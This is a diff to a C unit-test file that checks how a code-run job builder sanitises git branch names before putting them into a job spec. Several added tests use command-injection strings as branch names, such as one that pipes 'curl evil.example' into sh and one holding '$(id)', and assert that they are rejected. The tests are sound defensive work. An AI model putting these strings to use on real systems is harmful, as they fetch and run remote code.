@@ -185,6 +185,18 @@ test_coderun_target_branch_rules(void **state)
 	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "feat/new", "main", NULL,
 	                                             "rust_test", "ff"),
 	                    "feat/new");
+	/* a name a shell or git would read as more (a fork chose it), also as
+	 * a PR's head ref: a fix branch */
+	assert_string_equal(hl_coderun_target_branch(out, sizeof(out),
+	                                             "zz\";curl${IFS}evil.example|sh;#", "main",
+	                                             NULL, "rust_test", "0123456789ab"),
+	                    "fix/rust-test-01234567");
+	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "main", "main", "a$(id)",
+	                                             "rust_test", "0123456789ab"),
+	                    "fix/rust-test-01234567");
+	assert_string_equal(hl_coderun_target_branch(out, sizeof(out), "feat/..x", "main", NULL,
+	                                             "rust_test", "0123456789ab"),
+	                    "fix/rust-test-01234567");
 	/* no branch at all: a fix branch */
 	assert_string_equal(
 	        hl_coderun_target_branch(out, sizeof(out), NULL, NULL, "", "general", NULL),
@@ -219,6 +231,14 @@ test_coderun_long_branch_kept_whole(void **state)
 	assert_string_equal(hl_json_str(m, "spec.env.TARGET_BRANCH"), name);
 	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), name);
 	assert_int_equal(hl_coderun_validate(m, &err), 0);
+	json_decref(m);
+	/* a failing branch that is more than a name: no FAILURE_BRANCH, a fix
+	 * branch to push to */
+	s.branch = "x;curl evil.example|sh";
+	s.head_sha = "0123456789ab";
+	assert_int_equal(hl_coderun_build(&m, &s, &err), 0);
+	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), "");
+	assert_true(strncmp(hl_json_str(m, "spec.env.TARGET_BRANCH"), "fix/", 4) == 0);
 	json_decref(m);
 	/* a target given by the caller (a task's stored one) is kept whole too */
 	s.branch = "main";
@@ -313,8 +333,9 @@ test_coderun_label_values_sanitised(void **state)
 		assert_true(hl_coderun_label_value_valid(v));
 		assert_true(strlen(v) <= 63);
 		assert_int_equal(hl_coderun_validate(m, &err), 0);
-		/* the env keeps the real branch */
-		assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), branches[i]);
+		/* the env keeps the real branch when it is a name git takes */
+		assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"),
+		                    hl_str_branch_safe(branches[i]) ? branches[i] : "");
 		json_decref(m);
 	}
 }
@@ -469,8 +490,8 @@ test_coderun_text_from_logs_repaired(void **state)
 	assert_int_equal(hl_coderun_validate(m, &err), 0);
 	assert_string_equal(hl_json_str(m, "spec.promptModification"),
 	                    "cut \xef\xbf\xbd\xef\xbf\xbd");
-	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"),
-	                    "feat/\xef\xbf\xbd\xef\xbf\xbd");
+	/* a branch that is no valid UTF-8 is no name to push to or name */
+	assert_string_equal(hl_json_str(m, "spec.env.FAILURE_BRANCH"), "");
 	json_decref(m);
 }
 
